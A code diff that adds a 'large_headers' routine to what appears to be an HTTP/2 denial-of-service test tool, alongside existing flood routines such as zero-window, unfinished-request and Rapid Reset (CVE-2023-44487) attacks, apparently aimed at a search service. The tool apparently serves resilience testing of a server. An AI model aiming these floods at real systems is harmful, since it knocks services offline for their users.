@@ -89,6 +89,17 @@ def unfinished_requests(address: str) -> None:
     flood(address, data, connections=10)
 
 
+def large_headers(address: str) -> None:
+    """Begins searches with 40 KB of headers."""
+
+    def data() -> Iterator[bytes]:
+        yield greeting()
+        for stream in itertools.count(1, 2):
+            yield headers(SEARCH, stream, large="x" * 40_000)
+
+    flood(address, data, connections=2)
+
+
 def rapid_reset(address: str) -> None:
     """Begins searches and resets them at once (CVE-2023-44487)."""
     request = SearchRequest(query="송금", limit=100).SerializeToString()
@@ -118,7 +129,8 @@ def control_frames(address: str) -> None:
 
 
 KINDS = {
-    each.__name__: each for each in (idle_connections, zero_window, unfinished_requests, rapid_reset, control_frames)
+    each.__name__: each
+    for each in (idle_connections, zero_window, unfinished_requests, large_headers, rapid_reset, control_frames)
 }
 
 if __name__ == "__main__":
